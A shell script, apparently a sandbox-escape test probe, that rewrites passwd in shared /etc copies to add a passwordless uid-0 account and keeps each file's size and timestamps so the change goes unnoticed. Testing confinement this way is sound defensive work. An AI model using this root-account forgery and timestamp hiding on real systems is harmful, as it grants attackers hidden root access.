#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# attack: rewrite passwd in the shared copy of /etc (box_root/.etc-*) in place, keeping its size and mtime, for later process-mode runs to see
# modes: code-only process code-and-process
# check: check_user_etc_cache
# shellcheck source=lib.sh
. "$ESC_PROBES/lib.sh"
user_world
: "${ESC_W_BOX_ROOT:?the runner sets ESC_W_BOX_ROOT}"
# The copies by the names the runner found (box_root may not be listable here).
[ -n "${ESC_W_ETC_DIRS:-}" ] || inconclusive "the runner found no copy of /etc in box_root"
line=apbox-esc-forged::0:0::/:/bin/sh
forged=
err=
for d in $ESC_W_ETC_DIRS; do
	f=$d/passwd
	if ! size=$(wc -c 2>"$SCRATCH/etc-err" <"$f"); then
		err=$(cat "$SCRATCH/etc-err")
		continue
	fi
	[ "$size" -gt "${#line}" ] || continue
	# The same size: the line, then '#' up to the old size.  The same
	# mtime (and atime): put back from a reference file.
	touch -r "$f" "$SCRATCH/etc-ref" 2>/dev/null || continue
	{ printf '%s\n' "$line" && head -c "$((size - ${#line} - 1))" /dev/zero | tr '\0' '#'; } >"$SCRATCH/etc-new"
	if err=$( (cat "$SCRATCH/etc-new" >"$f") 2>&1) && touch -r "$SCRATCH/etc-ref" "$f" 2>/dev/null; then
		forged="$forged ${f#"$ESC_W_BOX_ROOT"/}"
	fi
done
rm -f "$SCRATCH/etc-ref" "$SCRATCH/etc-new" "$SCRATCH/etc-err"
[ -n "$forged" ] && escaped "rewrote the shared /etc copy's passwd, same size and mtime"
blocked "the shared /etc copy: ${err##*: }"
